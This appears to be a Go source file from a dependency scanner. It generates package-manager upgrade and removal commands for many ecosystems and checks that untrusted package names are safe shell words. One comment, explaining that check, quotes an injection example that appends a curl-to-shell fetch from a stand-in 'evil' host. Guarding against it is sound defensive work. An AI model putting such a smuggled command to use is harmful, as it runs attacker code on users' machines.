package finding

import (
	"strings"

	"github.com/bollwerk/bollwerk"
)

// manager is a distribution's package manager.
type manager int

const (
	managerNone manager = iota
	managerAPT
	managerAPK
	managerDNF
	managerZypper
	managerOther // a distribution we know no command for
)

// managerOf tells distributions from language ecosystems.
func managerOf(e bollwerk.Ecosystem) manager {
	switch e.Name() {
	case "Debian", "Ubuntu", "Echo":
		return managerAPT
	case "Alpine", "Alpaquita", "BellSoft Hardened Containers", "Chainguard", "Wolfi", "MinimOS":
		return managerAPK
	case "AlmaLinux", "Rocky Linux", "Red Hat", "Oracle Linux", "Amazon Linux", "Fedora", "Azure Linux", "openEuler", "Photon OS", "Mageia":
		return managerDNF
	case "SUSE", "openSUSE":
		return managerZypper
	case "Linux", "Android", "Arch Linux":
		return managerOther
	}
	return managerNone
}

// A command is meant to be copied into a shell, and package names come from
// strangers: "lodash; curl evil|sh" must never get into one. Words are not quoted
// but refused: a name that needs quoting is no name that a package manager takes.
func shellWord(s string) bool {
	if s == "" || len(s) > 256 || s[0] == '-' {
		return false
	}
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || strings.IndexByte("@/._+:-", c) >= 0 {
			continue
		}
		// "~" stands in Debian versions; at the start of a word a shell expands it.
		if c == '~' && i > 0 && s[i-1] != ':' && s[i-1] != '=' {
			continue
		}
		return false
	}
	return true
}

func safe(words ...string) bool {
	for _, w := range words {
		if !shellWord(w) {
			return false
		}
	}
	return true
}

// maxNames bounds how many package names one command line holds.
const maxNames = 12

func upgradeSystemCommand(e bollwerk.Ecosystem, names []string) string {
	if len(names) > maxNames || !safe(names...) {
		return upgradeAllCommand(e)
	}
	list := strings.Join(names, " ")
	switch managerOf(e) {
	case managerAPT:
		return "apt-get update && apt-get install --only-upgrade " + list
	case managerAPK:
		return "apk add --upgrade " + list
	case managerDNF:
		return "dnf upgrade " + list
	case managerZypper:
		return "zypper update " + list
	}
	return ""
}

func upgradeAllCommand(e bollwerk.Ecosystem) string {
	switch managerOf(e) {
	case managerAPT:
		return "apt-get update && apt-get upgrade"
	case managerAPK:
		return "apk upgrade --update-cache"
	case managerDNF:
		return "dnf upgrade"
	case managerZypper:
		return "zypper update"
	}
	return ""
}

// upgradeCommand is one line that brings a package to a version, by the file it
// was found in; "" where editing a file is the way. direct: a manifest names the
// package itself.
func upgradeCommand(p *bollwerk.FindingPackage, to string, direct bool) string {
	if !safe(p.Name, to) {
		return ""
	}
	file := ""
	if len(p.Paths) > 0 {
		file = fileName(p.Paths[0])
	}
	n, v := p.Name, to
	switch p.Ecosystem.Name() {
	case "npm":
		switch {
		case file == "yarn.lock" && direct:
			return "yarn upgrade " + n + "@" + v
		case file == "yarn.lock":
			return "yarn upgrade " + n
		case file == "pnpm-lock.yaml" && direct:
			return "pnpm update " + n + "@" + v
		case file == "pnpm-lock.yaml":
			return "pnpm update --depth Infinity " + n
		case file == "bun.lock" || file == "bun.lockb":
			return "bun update " + n
		case direct:
			return "npm install " + n + "@" + v
		}
		return "npm update " + n
	case "PyPI":
		switch file {
		case "poetry.lock":
			return "poetry update " + n
		case "Pipfile.lock", "Pipfile":
			return "pipenv update " + n
		case "uv.lock":
			return "uv lock --upgrade-package " + n + "==" + v
		case "pdm.lock":
			return "pdm update " + n
		}
		return "pip install --upgrade '" + n + ">=" + v + "'"
	case "Go":
		if isGoToolchain(p) {
			return "go get go@" + strings.TrimPrefix(v, "go")
		}
		if v[0] >= '0' && v[0] <= '9' {
			v = "v" + v
		}
		return "go get " + n + "@" + v
	case "Maven":
		if file == "gradle.lockfile" || file == "buildscript-gradle.lockfile" {
			return "./gradlew dependencies --update-locks " + n
		}
		if !direct || strings.Count(n, ":") != 1 {
			return "" // dependencyManagement in pom.xml: no one line does it
		}
		return "mvn versions:use-dep-version -Dincludes=" + n + " -DdepVersion=" + v
	case "RubyGems":
		return "bundle update --conservative " + n
	case "crates.io":
		return "cargo update -p " + n + " --precise " + v
	case "Packagist":
		return "composer update --with-dependencies " + n
	case "NuGet":
		return "dotnet add package " + n + " --version " + v
	case "Hex":
		return "mix deps.update " + n
	case "Pub":
		return "dart pub upgrade " + n
	case "SwiftURL":
		return "swift package update"
	case "CocoaPods":
		return "pod update " + n
	case "Conda":
		return "conda install '" + n + ">=" + v + "'"
	case "CRAN":
		return `Rscript -e 'install.packages("` + n + `")'`
	case "Julia":
		return `julia -e 'using Pkg; Pkg.update("` + n + `")'`
	case "opam":
		return "opam upgrade " + n
	}
	return ""
}

// removeCommand takes a package out; "" where no one line does it.
func removeCommand(p *bollwerk.FindingPackage) string {
	if !safe(p.Name) {
		return ""
	}
	n := p.Name
	file := ""
	if len(p.Paths) > 0 {
		file = fileName(p.Paths[0])
	}
	switch p.Ecosystem.Name() {
	case "npm":
		switch file {
		case "yarn.lock":
			return "yarn remove " + n
		case "pnpm-lock.yaml":
			return "pnpm remove " + n
		case "bun.lock", "bun.lockb":
			return "bun remove " + n
		}
		return "npm uninstall " + n
	case "PyPI":
		switch file {
		case "poetry.lock":
			return "poetry remove " + n
		case "Pipfile.lock", "Pipfile":
			return "pipenv uninstall " + n
		case "uv.lock":
			return "uv remove " + n
		case "pdm.lock":
			return "pdm remove " + n
		}
		return "pip uninstall " + n
	case "Go":
		return "go get " + n + "@none"
	case "RubyGems":
		return "bundle remove " + n
	case "crates.io":
		return "cargo remove " + n
	case "Packagist":
		return "composer remove " + n
	case "NuGet":
		return "dotnet remove package " + n
	case "Pub":
		return "dart pub remove " + n
	}
	return ""
}
